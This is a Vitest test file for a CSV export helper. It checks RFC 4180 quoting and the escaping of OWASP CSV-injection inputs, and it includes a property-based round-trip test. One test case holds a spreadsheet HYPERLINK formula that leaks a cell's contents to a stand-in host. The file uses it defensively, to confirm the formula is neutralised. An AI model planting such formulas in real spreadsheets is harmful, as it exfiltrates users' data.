import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import fc from "fast-check";
import { csvCell, toCsv } from "../../functions/core/csv";

describe("CSV cells (RFC 4180 and OWASP CSV injection)", () => {
  it.each([
    ["plain", "Bærum", "Bærum"],
    ["formula", '=HYPERLINK("http://x.example/?leak="&B2,"klikk")', `"'=HYPERLINK(""http://x.example/?leak=""&B2,""klikk"")"`],
    ["plus", "+1+2", "'+1+2"],
    ["minus", "-2+3", "'-2+3"],
    ["at", "@SUM(1+1)", "'@SUM(1+1)"],
    ["leading tab", "\tx", "'\tx"],
    ["leading CR", "\rx", `"'\rx"`],
    ["separator", "a;b", '"a;b"'],
    ["line feed", "a\nb", '"a\nb"'],
    ["quote", 'si "hei"', '"si ""hei"""'],
  ])("%s", (_name, input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it("writes numbers as numbers (a negative amount is data, not a formula) and empty for null", () => {
    expect(csvCell(-45000)).toBe("-45000");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
  });

  it("any text survives a round trip through a CSV parser as one cell, never as a formula (seed 20261206)", () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const width = rows[0]!.length;
        const same = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ""));
        const text = toCsv(same[0]!.map((_, i) => `k${i}`), same);
        const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ";", newline: "\r\n" }).data.slice(1, 1 + same.length);
        expect(parsed).toHaveLength(same.length);
        parsed.forEach((row, r) =>
          row.forEach((cell, i) => {
            const original = same[r]![i]!;
            expect(cell).toBe(/^[=+\-@\t\r]/.test(original) ? `'${original}` : original);
          }),
        );
      }),
      { seed: 20261206, numRuns: 500 },
    );
  });
});
